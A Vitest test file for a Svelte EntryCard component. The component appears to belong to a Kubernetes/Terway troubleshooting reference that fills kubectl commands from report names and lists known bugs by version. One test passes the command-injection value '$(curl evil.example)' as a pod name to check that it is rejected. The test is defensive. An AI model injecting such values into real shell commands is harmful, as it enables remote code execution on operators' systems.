import { fireEvent, render, screen } from '@testing-library/svelte';
import { describe, expect, it } from 'vitest';
import EntryCard from '../../../src/ui/reference/EntryCard.svelte';
import { catalog } from './session-harness';

// a real entry whose next checks name the pod and its namespace
const entry = catalog.entries.find((e) =>
  e.nextChecks.some((c) => c.command === 'kubectl describe pod -n {namespace} {pod}'),
)!;

describe('EntryCard', () => {
  it('is one compact row until opened in place', async () => {
    render(EntryCard, { props: { entry, selected: false } });
    const toggle = screen.getByTestId('ref-toggle');
    expect(toggle.getAttribute('aria-expanded')).toBe('false');
    expect(document.body.textContent).not.toContain('Why:');
    await fireEvent.click(toggle);
    expect(toggle.getAttribute('aria-expanded')).toBe('true');
    expect(document.body.textContent).toContain('Why:');
    expect(document.getElementById(`ref-body-${entry.id}`)).not.toBeNull();
  });

  it('opens a deep-linked entry without a toggle', () => {
    render(EntryCard, { props: { entry, selected: true } });
    expect(screen.queryByTestId('ref-toggle')).toBeNull();
    expect(document.body.textContent).toContain('Fix:');
  });

  it("fills the next checks from the report's names, and says so", () => {
    render(EntryCard, { props: { entry, selected: true, ctx: { pod: 'web-1', namespace: 'shop' } } });
    expect(screen.getByTestId('filled-note')).toBeTruthy();
    expect(document.body.textContent).toContain('kubectl describe pod -n shop web-1');
  });

  it('keeps placeholders without a report, and for a pasted value that is no valid name', () => {
    render(EntryCard, { props: { entry, selected: true, ctx: { pod: '$(curl evil.example)', namespace: 'shop' } } });
    expect(document.body.textContent).toContain('kubectl describe pod -n shop <pod>');
    expect(document.body.textContent).not.toContain('curl evil');
  });
});

describe('EntryCard: versions and known bugs', () => {
  const createEni = catalog.entries.find((e) => e.id === 'create-eni-failed')!;
  const bugs = catalog.knownBugs.filter((b) => b.symptom === createEni.id);

  it('says which releases emit it, under each name', () => {
    render(EntryCard, { props: { entry: createEni, selected: true } });
    const versions = screen.getByTestId('entry-versions').textContent!;
    expect(versions).toContain('Terway v1.1.0 and every later release emit it.');
    expect(versions).toContain('As CniCreateENIError: v1.3.0–v1.17.1.');
  });

  it('lists the known bugs behind it with their versions, fix and workaround', () => {
    render(EntryCard, { props: { entry: createEni, selected: true, bugs } });
    const list = screen.getByTestId('entry-bugs');
    expect(bugs.length).toBeGreaterThan(1);
    for (const b of bugs) expect(list.textContent).toContain(b.title);
    expect(list.textContent!.replace(/\s+/g, ' ')).toContain('Affected: Terway v1.16.1 to v1.17.2. Fixed in v1.17.5.');
    expect(list.textContent).toContain('Workaround:');
    expect(document.getElementById('bug-stale-pods-inflate-eni-demand')).not.toBeNull();
    expect(screen.getByRole('link', { name: 'Which known bugs does your version have?' }).getAttribute('href')).toBe(
      '#/ref/known-bugs',
    );
  });

  it('counts them on the compact row', () => {
    render(EntryCard, { props: { entry: createEni, selected: false, bugs } });
    expect(screen.getByTestId('entry-bug-count').textContent).toBe(`${bugs.length} known bugs`);
    expect(screen.queryByTestId('entry-bugs')).toBeNull();
  });
});
